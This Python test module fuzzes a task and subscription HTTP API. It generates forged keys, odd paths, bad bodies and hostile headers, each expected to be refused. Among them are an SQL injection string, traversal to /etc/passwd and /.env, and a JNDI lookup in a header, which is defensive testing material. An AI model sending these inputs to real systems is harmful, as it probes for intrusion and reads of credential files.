"""Requests to the HTTP API as no careful client sends them, and how each may be answered.

None of them may do anything: each is refused, or asks for what changes nothing.
"""

from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from random import Random
from typing import Any, Final
from urllib.parse import quote

from tests.stack.faults.fuzz.items import URLS
from tests.stack.faults.fuzz.values import TEXTS, text

BODY_MAX_BYTES: Final = 256 * 1024
"""The longest body that the API reads."""

Headers = tuple[tuple[str, str], ...]

_REFUSALS: Final = frozenset(range(400, 500))
"""How what is malformed may be answered, where no single answer is the right one."""


@dataclass(frozen=True, slots=True)
class FuzzedRequest:
    """A request, what is odd about it, and with which statuses it may be answered.

    `path` is as it is sent, with the query string; `of_ours` says that the refusal is the function's own, and so a
    problem document, not one of the gateway's.
    """

    kind: str
    method: str
    path: str
    headers: Headers
    body: bytes | None
    statuses: frozenset[int] = _REFUSALS
    of_ours: bool = False


@dataclass(frozen=True, slots=True)
class Keys:
    """Two keys of the API that are good, and forgeries are made of."""

    admin: str
    read: str


@dataclass(frozen=True, slots=True)
class Targets:
    """What is there, and must be there afterwards as it was: tasks that have not ended, and a subscription."""

    provider: str
    task_ids: tuple[str, ...]
    subscription_id: str


@dataclass(frozen=True, slots=True)
class _Draw:
    random: Random
    keys: Keys
    targets: Targets
    name: str

    @property
    def victim(self) -> str:
        """The path of a task that has not ended."""
        return f"/v1/tasks/{self.targets.provider}/{self.random.choice(self.targets.task_ids)}"


Maker = Callable[[_Draw], FuzzedRequest]


def api_requests(
    random: Random, prefix: str, keys: Keys, targets: Targets, count: int
) -> Iterator[FuzzedRequest]:
    """Yield requests, each kind as often as the others.

    Parameters
    ----------
    random : Random
        Decides everything.
    prefix : str
        How each id begins that would be a new one, were the request carried out.
    keys, targets
        What the requests are made of, and what they are aimed at.
    count : int
        How many there are.
    """
    for number in range(count):
        maker = _MAKERS[number % len(_MAKERS)]
        yield maker(_Draw(random, keys, targets, f"{prefix}-{number}"))


def _json_type(content_type: str = "application/json") -> Headers:
    return (("content-type", content_type),)


def _bearer(key: str) -> Headers:
    return (("authorization", f"Bearer {key}"),)


# Keys


def _any_route(draw: _Draw) -> tuple[str, str, bytes | None]:
    subscription = f"/v1/subscriptions/{draw.targets.subscription_id}"
    task = {"provider": draw.targets.provider, "task_id": draw.name}
    routes: Sequence[tuple[str, str, object]] = (
        ("GET", "/v1/tasks", None),
        ("GET", draw.victim, None),
        ("GET", f"{draw.victim}/results", None),
        ("GET", "/v1/status", None),
        ("GET", "/v1/subscriptions", None),
        ("GET", subscription, None),
        ("GET", "/v1/deliveries", None),
        *_changes(draw, subscription, task),
    )
    method, path, body = draw.random.choice(routes)
    return method, path, None if body is None else json.dumps(body).encode()


def _changes(draw: _Draw, subscription: str, task: dict[str, Any]) -> Sequence[tuple[str, str, object]]:
    """What a key that may only read is refused."""
    return (
        ("POST", "/v1/tasks", task),
        ("DELETE", draw.victim, None),
        ("POST", f"{draw.victim}/archive", None),
        ("POST", "/v1/submissions", {"provider": draw.targets.provider, "action": "music", "body": {}}),
        ("POST", "/v1/subscriptions", {"url": "https://hook.example.com/"}),
        ("PATCH", subscription, {"url": "https://hook.example.com/"}),
        ("DELETE", subscription, None),
        ("POST", f"{subscription}/rotate-secret", None),
        ("POST", f"{subscription}/test", None),
        ("POST", f"{subscription}/disable", None),
        ("POST", f"{subscription}/enable", None),
        ("POST", f"{subscription}/recover", {}),
    )


def _without_key(draw: _Draw) -> FuzzedRequest:
    method, path, body = _any_route(draw)
    joint = "&" if "?" in path else "?"
    odd = draw.random.choice(("", f"{joint}key={draw.keys.admin}", f"{joint}access_token={draw.keys.admin}"))
    headers = _json_type() if body else ()
    return FuzzedRequest("no key", method, path + odd, headers, body, frozenset({401}))


def _forged_key(draw: _Draw) -> FuzzedRequest:
    method, path, body = _any_route(draw)
    random, key = draw.random, draw.keys.admin
    head, key_id, secret = key.split("_", 2)
    position = random.randrange(len(secret))
    other = "A" if secret[position] != "A" else "B"
    forged = random.choice(
        (
            f"{head}_{key_id}_{secret[:position]}{other}{secret[position + 1 :]}",
            f"{head}_{key_id}_{secret[:-1]}",
            f"{head}_{key_id}_{secret}x",
            f"{head}_{key_id}_",
            f"{head}_{key_id}",
            f"{head}__{secret}",
            f"{head}_{draw.keys.read.split('_')[1]}_{secret}",
            f"{head}_{'a' * len(key_id)}_{secret}",
            f"{head}_{'a' * 3_000}_{secret}",
            f"{head}_{key_id}_{'x' * 6_000}",
            f"{head}_{key_id}_{len(secret) * chr(0xE9)}",
            f"x{key}",
            "thk_",
            "_",
            "null",
            "*",
            "\xff\xfe",
            "' OR 1=1 --",
        )
    )
    header = random.choice(
        (
            f"Bearer {forged}",
            f"bearer {forged}",
            f"Bearer  {forged}",
            forged,
            f"Basic {base64.b64encode(key.encode()).decode()}",
            f"Bearer {key}, Bearer {forged}",
            f"Bearer {forged} {key}",
            "Bearer",
            "Bearer ",
            "Digest username=admin",
            "AWS4-HMAC-SHA256 Credential=test/20261129/us-east-1/execute-api/aws4_request",
        )
    )
    headers = (("authorization", header), *(_json_type() if body else ()))
    return FuzzedRequest("forged key", method, path, headers, body, frozenset({401, 403}))


def _beyond_its_scope(draw: _Draw) -> FuzzedRequest:
    task = {"provider": draw.targets.provider, "task_id": draw.name}
    subscription = f"/v1/subscriptions/{draw.targets.subscription_id}"
    method, path, body = draw.random.choice(_changes(draw, subscription, task))
    headers = (*_bearer(draw.keys.read), *_json_type())
    content = None if body is None else json.dumps(body).encode()
    return FuzzedRequest("beyond its scope", method, path, headers, content, frozenset({403}), of_ours=True)


# Paths and methods


def _odd_path(draw: _Draw) -> FuzzedRequest:
    provider = draw.targets.provider
    odd = draw.random.choice(
        (
            "/v1",
            "/v1/",
            "/v1//tasks/x",
            "/v1/%00",
            "/v1/nothing",
            "/v1/tasks/",
            "/v1/Tasks",
            "/v1/tasks%2f",
            "/v1/tasks/../keys",
            "/v1/%2e%2e/%2e%2e/etc/passwd",
            f"/v1/tasks/{provider}/%ff%fe",
            f"/v1/tasks/{provider}/%ed%a0%80",
            f"/v1/tasks/{provider}/%",
            f"/v1/tasks/{provider}/%zz",
            f"/v1/tasks/{provider}/%2500",
            f"/v1/tasks/{provider}/a/b/c/d",
            f"/v1/tasks/{provider}/a/results/b",
            f"/v1/tasks/{provider}//results",
            f"/v1/tasks/{'x' * 4_000}/a",
            f"/v1/tasks/{provider}/{'x' * 6_000}",
            f"/v1/tasks/{provider}/{'%E6%AD%8C' * 600}",
            f"/v1/subscriptions/{'x' * 5_000}",
            "/v1/subscriptions/%00",
            "/v1/subscriptions/%20",
            "/v1/subscriptions/a%2Fb",
            "/v1/deliveries/%00",
            "/v1/deliveries/not-one",
            f"/v1/deliveries/{'x' * 5_000}",
            "/v1/keys",
            "/v1/providers",
            "/v1/openapi.json/more",
            "/v1/callbacks",
            "/v1/callbacks/",
            "/v1/callbacks/suno",
            "/v2/tasks",
            "/",
            "/health/more",
            "/.env",
        )
    )
    method = draw.random.choice(("GET", "DELETE", "POST", "PATCH"))
    return FuzzedRequest("odd path", method, odd, _bearer(draw.keys.admin), None)


def _odd_method(draw: _Draw) -> FuzzedRequest:
    path = draw.random.choice(
        (
            "/v1/tasks",
            draw.victim,
            f"{draw.victim}/results",
            "/v1/subscriptions",
            "/v1/status",
            "/v1/submissions",
        )
    )
    method = draw.random.choice(("PUT", "TRACE", "PROPFIND", "FOO"))
    return FuzzedRequest("odd method", method, path, (*_bearer(draw.keys.admin), *_json_type()), b"{}")


def _odd_id(draw: _Draw) -> FuzzedRequest:
    """A task id, provider or delivery that there is not, and could not be: refused, or not found."""
    random = draw.random
    odd = quote(text(random), safe="")
    provider = quote(
        random.choice(("ſuno", "sunо", "a b", "x" * 65, "é", "🎵", ".", "-", text(random))), safe=""
    )
    task = random.choice(
        (
            f"/v1/tasks/{draw.targets.provider}/{odd or '%20'}",
            f"/v1/tasks/{provider or '%20'}/{draw.name}",
            f"/v1/tasks/{draw.targets.provider}?task_id={odd}",
            f"/v1/tasks/{provider or '%20'}?task_id={odd}",
        )
    )
    place, _, query = task.partition("?")
    below = random.choice(("", "", "/results", "/archive"))
    method = "POST" if below == "/archive" else random.choice(("GET", "DELETE")) if not below else "GET"
    path = f"{place}{below}{'?' + query if query else ''}"
    return FuzzedRequest("odd id", method, path, _bearer(draw.keys.admin), None)


# Bodies


def _good_body(draw: _Draw) -> tuple[str, str, dict[str, Any]]:
    """A request that would be carried out, for its faults to be put in."""
    targets = draw.targets
    return draw.random.choice(
        (
            ("POST", "/v1/tasks", {"provider": targets.provider, "task_id": draw.name}),
            (
                "POST",
                "/v1/submissions",
                {"provider": targets.provider, "action": "music", "body": {"prompt": draw.name}},
            ),
            (
                "POST",
                "/v1/subscriptions",
                {"subscription_id": draw.name, "url": "https://hook.example.com/"},
            ),
            (
                "PATCH",
                f"/v1/subscriptions/{targets.subscription_id}",
                {"description": "from outside"},
            ),
        )
    )


def _with_body(
    draw: _Draw, kind: str, body: bytes, *, content_type: str = "application/json"
) -> FuzzedRequest:
    method, path, _ = _good_body(draw)
    headers = (*_bearer(draw.keys.admin), *_json_type(content_type))
    return FuzzedRequest(kind, method, path, headers, body, of_ours=True)


def _no_json(draw: _Draw) -> FuzzedRequest:
    whole = json.dumps(_good_body(draw)[2]).encode()
    random = draw.random
    odd = random.choice(
        (
            b"",
            b" ",
            b"\0",
            b"\xff\xfe{}",
            b"{",
            b"}",
            b"nope",
            b"NaN",
            b"'a'",
            whole[: random.randrange(1, len(whole))],
            whole + b"}",
            whole + whole,
            whole.replace(b'"', b"'"),
            whole.replace(b'"', b"\xff"),
            b"[" * 50_000,
            b'{"a":' * 20_000,
            b"[" * 900 + b"]" * 900,
            b"9" * 5_000,
            b'{"timeout_s": ' + b"9" * 5_000 + b"}",
            b'{"metadata": ' + b'{"a":' * 3_000 + b"1" + b"}" * 3_000 + b"}",
            b"a=b&c=d",
            b"<task/>",
            b"--boundary\r\n",
            gzip.compress(whole, mtime=0),
        )
    )
    return _with_body(draw, "no JSON", odd)


def _no_object(draw: _Draw) -> FuzzedRequest:
    odd = draw.random.choice((None, True, 0, -1, 1.5, "", "text", [], [1], [{}], ["task_id"], [[["a"]]]))
    return _with_body(draw, "no object", json.dumps(odd).encode())


_ANYTHING: Final[tuple[Any, ...]] = (
    True,
    0,
    -1,
    1.5,
    10**40,
    float("nan"),
    float("inf"),
    [],
    [None],
    {"a": {"b": None}},
)


def _field_of_another_type(draw: _Draw) -> FuzzedRequest:
    method, path, body = _good_body(draw)
    field = draw.random.choice([name for name in body if name != "body"])
    body = body | {field: draw.random.choice(_ANYTHING)}
    headers = (*_bearer(draw.keys.admin), *_json_type())
    return FuzzedRequest(
        "a field of another type", method, path, headers, json.dumps(body).encode(), of_ours=True
    )


def _bad_task(draw: _Draw) -> FuzzedRequest:
    random = draw.random
    field, value = random.choice(
        (
            ("task_id", random.choice((" ", "", "x" * 300, "a\0", "a\n", "\u202ea", "歌" * 100, "\ud800"))),
            ("provider", random.choice((" ", "", "a b", "x" * 65, "ſuno", "sunо", "a/b", "\udfff"))),
            ("timeout_s", random.choice((59, 604_801, -1, 60.5, "soon", [], 10**30, float("inf")))),
            ("notify_hook", random.choice((*URLS[1:], 7, [], {}, "\ud800"))),
            ("notify_format", random.choice(("carrier pigeon", "", 7, [], "\udc00"))),
            ("metadata", random.choice((7, "text", [1], {"long": "x" * 3_000}, {"歌" * 900: 1}))),
        )
    )
    body = {"provider": draw.targets.provider, "task_id": draw.name, field: value}
    headers = (*_bearer(draw.keys.admin), *_json_type())
    return FuzzedRequest("a bad task", "POST", "/v1/tasks", headers, json.dumps(body).encode(), of_ours=True)


def _bad_subscription(draw: _Draw) -> FuzzedRequest:
    random = draw.random
    field, value = random.choice(
        (
            ("url", random.choice((*URLS, 7, None, [], "\ud800"))),
            ("events", random.choice(("all", 7, ["task.exploded"], [7], [None], {"a": 1}))),
            ("providers", random.choice(("musicmint", 7, [7], [["a"]], {"a": 1}))),
            ("format", random.choice(("morse", 7, [], ""))),
            ("subscription_id", random.choice(("", " ", "x" * 300, "a\0b", "\ud800", 7, []))),
        )
    )
    body = {"subscription_id": draw.name, "url": "https://hook.example.com/", field: value}
    headers = (*_bearer(draw.keys.admin), *_json_type())
    return FuzzedRequest(
        "a bad subscription", "POST", "/v1/subscriptions", headers, json.dumps(body).encode(), of_ours=True
    )


def _unknown_field(draw: _Draw) -> FuzzedRequest:
    method, path, body = _good_body(draw)
    odd = draw.random.choice(
        (
            "status",
            "event_id",
            "queue",
            "__proto__",
            "constructor",
            "Task_id",
            "task-id",
            "\0",
            "\ud800",
            "🎵",
        )
    )
    body = body | {odd: draw.random.choice(_ANYTHING[:5])}
    headers = (*_bearer(draw.keys.admin), *_json_type())
    return FuzzedRequest("an unknown field", method, path, headers, json.dumps(body).encode(), of_ours=True)


def _missing_field(draw: _Draw) -> FuzzedRequest:
    method, path, field, body = draw.random.choice(
        (
            ("POST", "/v1/tasks", "task_id", {"provider": draw.targets.provider}),
            ("POST", "/v1/tasks", "provider", {"task_id": draw.name}),
            ("POST", "/v1/submissions", "body", {"provider": draw.targets.provider, "action": "music"}),
            ("POST", "/v1/subscriptions", "url", {"subscription_id": draw.name}),
        )
    )
    given: dict[str, Any] = dict(body)
    if draw.random.random() < 0.5:
        given[field] = None
    headers = (*_bearer(draw.keys.admin), *_json_type())
    return FuzzedRequest("a missing field", method, path, headers, json.dumps(given).encode(), of_ours=True)


def _too_large(draw: _Draw) -> FuzzedRequest:
    length = draw.random.choice((BODY_MAX_BYTES + 1, BODY_MAX_BYTES + 500, 1_000_000))
    start = json.dumps(_good_body(draw)[2])[:-1] + ', "more": "'
    body = start + "x" * (length - len(start) - 2) + '"}'
    return _with_body(draw, "too large", body.encode())


def _odd_content_type(draw: _Draw) -> FuzzedRequest:
    # A body that is refused whatever it is read as.
    body = json.dumps({"provider": draw.targets.provider, "task_id": draw.name, "timeout_s": 1}).encode()
    content_type = draw.random.choice(
        (
            "text/plain",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/octet-stream",
            "application/json; charset=utf-16",
            "application/json;;;",
            "image/png",
            "",
            "x" * 2_000,
        )
    )
    headers = (*_bearer(draw.keys.admin), *_json_type(content_type))
    if draw.random.random() < 0.3:
        headers = (*headers, ("content-encoding", draw.random.choice(("gzip", "br", "x"))))
    return FuzzedRequest("an odd content type", "POST", "/v1/tasks", headers, body)


# Queries and headers


def _forged_cursor(random: Random) -> str:
    inner: Any = random.choice(
        (
            None,
            [],
            {},
            7,
            {"task_id": "a"},
            {"task_id": {"S": "a"}, "provider": {"S": "b"}},
            {"task_id": {"B": "!"}, "provider": {"N": "x"}, "listed": {"S": "x"}},
            {"listed": "x", "listed_at_ms": "soon", "task_id": [], "provider": None},
            [1, 2, 3],
            "x" * 3_000,
        )
    )
    whole = base64.urlsafe_b64encode(json.dumps(inner).encode()).decode()
    odd = random.choice(
        (whole, whole.rstrip("="), whole[:-3], "x", "====", "!!", "\0", "%s", "é", "a" * 4_000)
    )
    return quote(odd, safe="")


def _odd_query(draw: _Draw) -> FuzzedRequest:
    random = draw.random
    lists = ("/v1/tasks", "/v1/deliveries", "/v1/subscriptions")
    path, query = random.choice(
        (
            (
                random.choice(lists),
                f"limit={random.choice(('0', '-1', '101', 'x', '1e2', '1.5', '9' * 400, ''))}",
            ),
            (random.choice(lists[:2]), f"cursor={_forged_cursor(random)}"),
            (
                random.choice(lists[:2]),
                "since=" + random.choice(("yesterday", "2026-02-30T25:61:61Z", "-1", "x" * 500)),
            ),
            (random.choice(lists[:2]), "since=2026-11-29"),
            (
                random.choice(lists[:2]),
                f"status={quote(random.choice(('exploded', 'PENDING', *TEXTS[2:8])), safe='')}",
            ),
            (random.choice((*lists, "/v1/status", draw.victim)), "unknown=1"),
            (random.choice((*lists, "/v1/status")), "%00=%00&%ff=%fe"),
            (f"{draw.victim}/results", "expires=never"),
            (draw.victim, f"task_id={quote(draw.targets.task_ids[0])}"),
        )
    )
    return FuzzedRequest(
        "an odd query", "GET", f"{path}?{query}", _bearer(draw.keys.admin), None, of_ours=True
    )


def _odd_header(draw: _Draw) -> FuzzedRequest:
    """Headers on a request that finds nothing: the answer is that there is nothing, or that the header is wrong."""
    odd = draw.random.choice(
        (
            ("prefer", "wait=-1"),
            ("prefer", "wait=abc"),
            ("prefer", "wait=99999999999999999999"),
            ("prefer", "wait="),
            ("prefer", "wait=1e3;;;,,respond-async, \xe9"),
            ("prefer", "x" * 4_000),
            ("idempotency-key", ""),
            ("idempotency-key", "x" * 4_000),
            ("idempotency-key", "\xe9\xff"),
            ("accept", "image/png"),
            ("accept", "\xff"),
            ("accept-language", "x" * 4_000),
            ("origin", "null"),
            ("origin", "https://evil.example"),
            ("x-forwarded-for", "127.0.0.1, ${jndi:ldap://example.com/a}"),
            ("x-http-method-override", "DELETE"),
            ("x-amzn-trace-id", "Root=1;Parent=;Sampled=x"),
            ("cookie", "a=b; c=\xe9"),
            ("if-none-match", "*"),
            ("range", "bytes=0-0"),
        )
    )
    method, path, body = draw.random.choice(
        (
            ("GET", f"/v1/tasks/{draw.targets.provider}/{draw.name}", None),
            ("POST", "/v1/tasks", b'{"provider": "x", "task_id": "x", "timeout_s": 1}'),
        )
    )
    headers = (*_bearer(draw.keys.admin), *_json_type(), odd)
    return FuzzedRequest("an odd header", method, path, headers, body, of_ours=True)


_MAKERS: Final[tuple[Maker, ...]] = (
    _without_key,
    _forged_key,
    _beyond_its_scope,
    _odd_path,
    _odd_method,
    _odd_id,
    _no_json,
    _no_object,
    _field_of_another_type,
    _bad_task,
    _bad_subscription,
    _unknown_field,
    _missing_field,
    _too_large,
    _odd_content_type,
    _odd_query,
    _odd_header,
)
